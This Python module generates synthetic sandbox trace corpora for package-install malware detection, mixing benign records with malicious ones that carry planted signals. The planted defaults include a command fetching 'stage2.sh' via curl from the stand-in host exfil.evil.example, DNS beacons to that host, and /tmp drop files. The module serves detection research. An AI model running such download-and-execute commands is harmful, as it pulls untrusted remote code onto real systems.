"""Synthetic trace corpora with planted malicious signals.

Desk-scale stand-in for a real sandbox corpus: benign records sample a
fixed benign vocabulary, malicious records embed three recoverable signal
families (a DNS beacon, a download command, a /tmp drop), and both classes
share background noise tokens so rankers must separate signal from noise.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from typing import Iterator

from .records import CommandEvent, DnsEvent, FileEvent, InstanceRecord, SocketEvent, TraceError

ECOSYSTEM_CYCLE = ("npm", "pypi", "rubygems", "crates.io", "packagist")

BENIGN_READ_PATHS = tuple(
    f"/usr/lib/runtime/{name}"
    for name in (
        "os.ext",
        "sys.ext",
        "json.ext",
        "re.ext",
        "math.ext",
        "ssl.ext",
        "hashlib.ext",
        "socketlib.ext",
        "zlib.ext",
        "codecs.ext",
        "locale.ext",
        "threading.ext",
        "subprocess.ext",
        "pathlib.ext",
        "logging.ext",
        "argparse.ext",
        "typing.ext",
        "uuid.ext",
        "base64.ext",
        "struct.ext",
        "platform.ext",
        "signal.ext",
        "select.ext",
        "errno.ext",
    )
)

BENIGN_WRITE_PATHS = (
    "/home/sandbox/.cache/pkg/index.lock",
    "/home/sandbox/.cache/pkg/metadata.db",
    "/home/sandbox/.local/share/pkg/state.json",
    "/home/sandbox/.config/pkg/settings.toml",
    "/var/lib/pkg/registry.cache",
    "/home/sandbox/build/output.log",
)

NOISE_PATHS = (
    "/etc/ssl/certs/ca-certificates.crt",
    "/etc/resolv.conf",
    "/etc/hosts",
    "/etc/nsswitch.conf",
    "/proc/cpuinfo",
    "/proc/meminfo",
    "/proc/self/status",
    "/proc/self/maps",
    "/dev/urandom",
    "/dev/null",
    "/usr/share/zoneinfo/UTC",
    "/usr/share/locale/en/messages",
    "/etc/ld.so.cache",
    "/etc/passwd",
    "/usr/lib/locale/locale-archive",
    "/sys/devices/system/cpu/online",
    "/etc/machine-id",
    "/usr/share/ca-certificates/mozilla.crt",
)

NOISE_HOSTS = (
    "registry.npmjs.org",
    "pypi.org",
    "files.pythonhosted.org",
    "crates.io",
    "static.crates.io",
    "index.rubygems.org",
    "packagist.org",
    "repo.packagist.org",
    "github.com",
    "objects.githubusercontent.com",
    "cdn.jsdelivr.net",
    "mirrors.internal.example",
)

NOISE_COMMANDS = (
    "pkg-install --quiet dependency-resolver",
    "pkg-build --release --jobs 2",
    "tar -xzf sources.tar.gz",
    "make -C build all",
    "gcc -O2 -o module module.c",
    "node scripts/postbuild.js",
    "python setup_helper build",
    "ruby extconf.rb",
    "cmake --build build",
    "strip build/module.so",
    "install -m 0644 module.so lib/",
    "ldconfig -p",
)

NOISE_SOCKETS = (
    ("151.101.0.223", 443),
    ("104.16.0.35", 443),
    ("140.82.112.3", 443),
    ("registry.npmjs.org", 443),
    ("pypi.org", 443),
    ("mirrors.internal.example", 8080),
    ("10.0.0.2", 53),
    ("151.101.64.223", 80),
)


@dataclass(frozen=True)
class PlantedSignals:
    """The malicious token families embedded in synthetic corpora."""

    dns_host: str = "exfil.evil.example"
    command: str = "sh -c curl http://exfil.evil.example/stage2.sh"
    tmp_prefix: str = "/tmp/"
    probability: float = 0.95


DEFAULT_PLANTED = PlantedSignals()


def malicious_count(n: int, malicious_fraction: float) -> int:
    """Number of label-1 records: n * fraction rounded to nearest."""
    return int(math.floor(n * malicious_fraction + 0.5))


def generate_synthetic(
    n: int,
    malicious_fraction: float,
    seed: int,
    planted: PlantedSignals = DEFAULT_PLANTED,
) -> Iterator[InstanceRecord]:
    """Yield n records, deterministically for a given seed."""
    if n < 1:
        raise TraceError("n must be >= 1")
    if not 0.0 <= malicious_fraction <= 1.0:
        raise TraceError(f"malicious_fraction {malicious_fraction} outside [0, 1]")

    rng = random.Random(seed)
    m = malicious_count(n, malicious_fraction)
    labels = [1] * m + [0] * (n - m)
    rng.shuffle(labels)

    for i, label in enumerate(labels):
        yield _one_record(rng, i, label, planted)


def _one_record(rng: random.Random, index: int, label: int, planted: PlantedSignals) -> InstanceRecord:
    ecosystem = ECOSYSTEM_CYCLE[index % len(ECOSYSTEM_CYCLE)]
    package_id = f"pkg-{index:05d}"

    files: list[FileEvent] = []
    dns: list[DnsEvent] = []
    sockets: list[SocketEvent] = []
    commands: list[CommandEvent] = []

    # Background noise drawn identically for both classes.
    for path in rng.sample(NOISE_PATHS, rng.randint(1, 3)):
        files.append(FileEvent(path, "read"))
    for host in rng.sample(NOISE_HOSTS, rng.randint(0, 2)):
        dns.append(DnsEvent(host, rng.choice(("A", "AAAA"))))
    if rng.random() < 0.5:
        host, port = rng.choice(NOISE_SOCKETS)
        sockets.append(SocketEvent(host, port))
    if rng.random() < 0.7:
        commands.append(CommandEvent(rng.choice(NOISE_COMMANDS)))

    if label == 0:
        for path in rng.sample(BENIGN_READ_PATHS, rng.randint(2, 5)):
            files.append(FileEvent(path, "read"))
        if rng.random() < 0.5:
            files.append(FileEvent(rng.choice(BENIGN_WRITE_PATHS), "write"))
    else:
        if rng.random() < planted.probability:
            for _ in range(rng.randint(1, 3)):
                dns.append(DnsEvent(planted.dns_host, "A"))
        if rng.random() < planted.probability:
            cmd = CommandEvent(planted.command, args=["-s"], env_names=["PATH"])
            commands.append(cmd)
        if rng.random() < planted.probability:
            drop = f"{planted.tmp_prefix}.{rng.getrandbits(32):08x}-drop.bin"
            files.append(FileEvent(drop, "write"))
            if rng.random() < 0.5:
                files.append(FileEvent(drop, "delete"))

    return InstanceRecord(package_id, ecosystem, label, files, dns, sockets, commands)
